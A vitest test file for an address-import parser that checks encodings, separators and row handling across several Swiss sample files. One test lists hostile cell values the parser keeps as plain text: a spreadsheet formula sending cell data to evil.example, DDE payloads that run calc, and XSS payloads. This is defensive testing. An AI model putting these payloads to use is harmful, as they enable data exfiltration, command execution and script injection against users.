import { Temporal } from 'temporal-polyfill'
import { describe, expect, it } from 'vitest'
import { LOCALITIES } from '#fixture-api/data/localities'
import { DEFAULT_SEED } from '#fixture-api/options'
import { generateDataset } from '#fixture-api/seed/generate'
import { IMPORT_LIMITS } from './import-limits'
import { parseImportBytes } from './parse-import-bytes'
import { fixtureBytes, testParseDeps } from './testing/import-fixtures'

/** Each sample file of tests/fixtures/imports read as the worker reads it (parseImportBytes). */
async function sheetOf(name: string) {
  const outcome = await parseImportBytes(name, fixtureBytes(name), testParseDeps)
  if (!outcome.ok) throw new Error(`${name} refused: ${JSON.stringify(outcome.refusal)}`)
  return outcome.sheet
}

describe('reading the sample files', () => {
  it('reads the German Excel CSV: Windows-1252, semicolons, umlauts intact', async () => {
    const sheet = await sheetOf('addresses-de-semicolon-win1252.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'windows-1252', separator: ';' })
    expect(sheet.headers).toEqual([
      'Firma',
      'Vorname',
      'Nachname',
      'Strasse',
      'Hausnummer',
      'PLZ',
      'Ort',
      'Telefon',
      'E-Mail',
    ])
    expect(sheet.rows).toHaveLength(5)
    expect(sheet.rows[0]).toEqual([
      'Bäckerei Grünig AG',
      'Jürg',
      'Müller',
      'Bahnhofstrasse',
      '12',
      '8001',
      'Zürich',
      '044 000 12 34',
      'info@gruenig.example',
    ])
    expect(sheet.rows[1]?.slice(0, 3)).toEqual(['', 'Käthi', 'Schönbächler'])
  })

  it('reads the French file: UTF-8 with its mark, commas, a quoted comma, quote and line break', async () => {
    const sheet = await sheetOf('addresses-fr-comma-utf8-bom.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'utf-8', separator: ',' })
    expect(sheet.headers).toEqual([
      'Société',
      'Prénom',
      'Nom',
      'Rue',
      'NPA',
      'Localité',
      'Téléphone',
      'E-mail',
    ])
    expect(sheet.rows).toHaveLength(4)
    expect(sheet.rows[1]?.slice(0, 4)).toEqual([
      'Transports Müller, Frères & Cie',
      'Jérôme',
      'Müller',
      'Avenue de la Gare 12\nCase postale 88',
    ])
    expect(sheet.rows[2]?.[3]).toBe('Chemin des Œillets 9')
    expect(sheet.rows[3]?.[0]).toBe('Atelier "La Forêt"')
  })

  it("reads the Italian file: Excel's Unicode text, UTF-16 LE with tabs", async () => {
    const sheet = await sheetOf('addresses-it-tab-utf16le.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'utf-16le', separator: '\t' })
    expect(sheet.headers).toEqual(['Ditta', 'Nome', 'Cognome', 'Via', 'CAP', 'Località', 'Telefono'])
    expect(sheet.rows.map((row) => row[1])).toEqual(['Niccolò', 'Lucía', 'Andrea'])
  })

  it('reads the English file: UTF-8 without a mark, commas', async () => {
    const sheet = await sheetOf('addresses-en-utf8.csv')
    expect(sheet).toMatchObject({ format: 'csv', encoding: 'utf-8', separator: ',' })
    expect(sheet.headers.at(-1)).toBe('Type')
    expect(sheet.rows[1]).toEqual([
      '',
      'Thomas',
      'Küng',
      'Pilatusstrasse',
      '14',
      '6003',
      'Luzern',
      '041 000 02 88',
      '',
      'Mr',
    ])
  })

  it('reads the workbook: first sheet, numbers and dates as text, the empty row gone, cells trimmed', async () => {
    const sheet = await sheetOf('addresses.xlsx')
    expect(sheet.format).toBe('xlsx')
    expect(sheet.encoding).toBeUndefined()
    expect(sheet.separator).toBeUndefined()
    expect(sheet.headers).toEqual([
      'Firma',
      'Vorname',
      'Nachname',
      'Strasse',
      'PLZ',
      'Ort',
      'Telefon',
      'Kunde seit',
      'Standard-Absender',
    ])
    expect(sheet.rows).toEqual([
      [
        'Grünig Transporte AG',
        'Jürg',
        'Müller',
        'Bahnhofstrasse 12',
        '8004',
        'Zürich',
        '41440001234',
        '01.03.2019',
        'TRUE',
      ],
      [
        'Käserei Aebi',
        'Ruth',
        'Aebi',
        'Dorfstrasse 4',
        '3011',
        'Bern',
        '+41 31 000 56 78',
        '27.11.2024',
        'FALSE',
      ],
      ['Société Genève SA', 'Aimée', 'Duc', 'Rue du Rhône 1', '1201', 'Genève', '41220009876', '', 'FALSE'],
    ])
  })

  it("reads another carrier's export layout as it is (mapping its headers is the next step's job)", async () => {
    const sheet = await sheetOf('carrier-export-layout.csv')
    expect(sheet.headers).toEqual([
      'Name 1',
      'Name 2',
      'Name 3',
      'Strasse/Nr.',
      'PLZ',
      'Ort',
      'Land',
      'Telefonnummer',
      'E-Mail-Adresse',
      'Referenz',
    ])
    expect(sheet.rows[0]?.[3]).toBe('Industriestrasse 8')
  })

  it('reads every bad row, the 10,000-character cell whole: judging them is for the checks', async () => {
    const sheet = await sheetOf('bad-rows.csv')
    expect(sheet.rows).toHaveLength(9)
    expect(sheet.rows.map((row) => row.at(-1))).toEqual([
      'valid reference row',
      'no name',
      'no street',
      'no place',
      'postcode of another place',
      'unknown postcode',
      'invalid phone',
      'impossible Anrede',
      '10,000-character company',
    ])
    expect(sheet.rows[8]?.[1]).toHaveLength(10_000)
  })

  it('reads the duplicates, whose last rows are still in the demo customer’s seeded address book', async () => {
    const sheet = await sheetOf('duplicates.csv')
    expect(sheet.rows[0]?.[3]).toBe('Bahnhofstrasse 10')
    expect(sheet.rows[1]?.[3]).toBe('Bahnhofstr. 10')
    expect(sheet.rows[3]?.[1]).toBe('Mueller Transporte GmbH')
    const dataset = generateDataset(
      DEFAULT_SEED,
      1,
      Temporal.ZonedDateTime.from('2026-11-27T10:00[Europe/Zurich]'),
    )
    const book = new Set(
      dataset.addresses
        .filter((record) => record.owner === 'customer')
        .map(({ kontaktadresse: a }) => [a.firma, a.addresse, a.postleitzahl, a.ort].join('|')),
    )
    const fromBook = sheet.rows.slice(5)
    expect(fromBook).toHaveLength(3)
    for (const row of fromBook) expect(book).toContain([row[1], row[3], row[4], row[5]].join('|'))
  })

  it('keeps hostile cells as text, control characters and direction overrides removed', async () => {
    const sheet = await sheetOf('hostile.csv')
    expect(sheet.rows.map((row) => row[0])).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '<script>alert("xss")</script>',
      '<img src=x onerror=alert(1)>',
      'Kontrollzeichen AG[31m',
      'Tab am Anfang AG',
    ])
    expect(sheet.rows[6]?.slice(1, 3)).toEqual(['Bel Back', 'Bahnhofstrasse 7'])
    expect(sheet.rows[7]?.slice(1, 3)).toEqual(['"Zitat" Meier', 'Bahnhofstrasse 8\nHinterhaus'])
  })

  it('reads the 10,000-row file whole, every row at a place the fixture knows, none twice', async () => {
    const sheet = await sheetOf('addresses-10000.csv')
    expect(sheet).toMatchObject({ encoding: 'utf-8', separator: ';' })
    expect(sheet.headers).toEqual([
      'Firma',
      'Vorname',
      'Nachname',
      'Strasse',
      'Hausnummer',
      'PLZ',
      'Ort',
      'Telefon',
    ])
    expect(sheet.rows).toHaveLength(IMPORT_LIMITS.rows)
    const places = new Set(
      LOCALITIES.filter((place) => place.is_active).map((place) => `${place.code} ${place.name_de}`),
    )
    expect(sheet.rows.every((row) => row.length === 8 && places.has(`${row[5]} ${row[6]}`))).toBe(true)
    expect(new Set(sheet.rows.map((row) => row.join(';'))).size).toBe(IMPORT_LIMITS.rows)
  })
})
